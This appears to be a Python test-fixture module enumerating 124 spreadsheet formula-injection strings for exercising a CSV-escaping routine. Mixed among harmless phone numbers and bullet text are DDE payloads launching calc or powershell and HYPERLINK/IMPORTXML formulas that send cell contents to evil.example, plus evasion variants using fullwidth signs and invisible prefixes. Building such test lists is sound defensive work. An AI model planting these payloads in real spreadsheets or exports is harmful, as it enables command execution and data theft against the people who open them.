"""Texts that some spreadsheet takes for a formula, as attackers and innocent people type them."""

from __future__ import annotations

_CALLS = (
    "1+1",
    "A1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"click")',
    'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    'IMAGE("https://evil.example/x.png")',
    'WEBSERVICE("https://evil.example")',
    "SUM(1,2)*cmd|'/C powershell'!A0",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTRANGE("abc","Sheet1!A1")',
)
_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_BEFORE = ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "'", "''", " \t'", "\r\n", "\u3000")

#: A hundred and twenty-four.
PAYLOADS: tuple[str, ...] = (
    *(sign + call for sign in _SIGNS for call in _CALLS),
    *(before + "=1+1" for before in _BEFORE),
    *(before + "+1 555 0100" for before in _BEFORE),
    *("@SUM(1)\t", "--1", "=-1", "=", "+", "-", "@", "=\n1", "-2+3+cmd|' /C calc'!A0", '=1";=2'),
    *("@", "\t", "\r", "\tx", "\rx", "\n=x", "'=x", "=x'"),
    *("+49 170 5550100", "- first point"),
)
